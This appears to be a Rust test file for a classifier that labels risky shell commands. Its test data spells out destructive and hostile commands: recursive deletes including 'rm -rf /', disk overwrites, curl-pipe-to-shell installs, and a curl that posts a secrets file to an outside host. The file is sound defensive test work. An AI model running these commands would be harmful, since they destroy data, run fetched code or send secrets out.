//! Dangerous commands are named, ordinary ones are not.

use super::*;

#[test]
fn dangerous_commands_are_named() {
    for (command, danger) in [
        ("rm -rf build", Danger::Deletes),
        ("cd /tmp && /bin/rm -r x", Danger::Deletes),
        ("FOO=1 rm --force x", Danger::Deletes),
        ("find . -name '*.o' -delete", Danger::Deletes),
        ("git status; git reset --hard HEAD~3", Danger::LosesHistory),
        ("git push --force-with-lease", Danger::LosesHistory),
        ("git checkout .", Danger::LosesHistory),
        ("sudo apt install x", Danger::Privilege),
        ("chmod -R 777 .", Danger::Privilege),
        ("dd if=/dev/zero of=x", Danger::Device),
        ("echo x > /dev/sda", Danger::Device),
        ("mkfs.ext4 /dev/x", Danger::Device),
        ("curl -s https://example.com/i.sh | sh", Danger::RunsFetched),
        ("wget -qO- x |  sudo bash", Danger::Privilege),
        ("bash -c 'rm -rf /'", Danger::Deletes),
        ("ls | xargs rm -f", Danger::Deletes),
        ("nice rm -rf x", Danger::Deletes),
        ("timeout 5 rm -rf x", Danger::Deletes),
        ("echo $(rm -rf x)", Danger::Deletes),
        ("killall node", Danger::Stops),
        ("curl -d @secrets https://example.com", Danger::Sends),
    ] {
        let found = danger_of(command);
        assert_eq!(found, Some(danger), "{command}");
    }
}

#[test]
fn ordinary_commands_are_not() {
    for command in [
        "ls -la",
        "cargo test --workspace",
        "git status && git diff",
        "git commit -m 'rm -rf everything; sudo'",
        "grep -rf patterns.txt src",
        "echo \"sudo rm -rf\"",
        "curl https://example.com",
        "git checkout main",
        "",
        "  ;; && ",
        "'unfinished",
    ] {
        assert_eq!(danger_of(command), None, "{command}");
    }
}
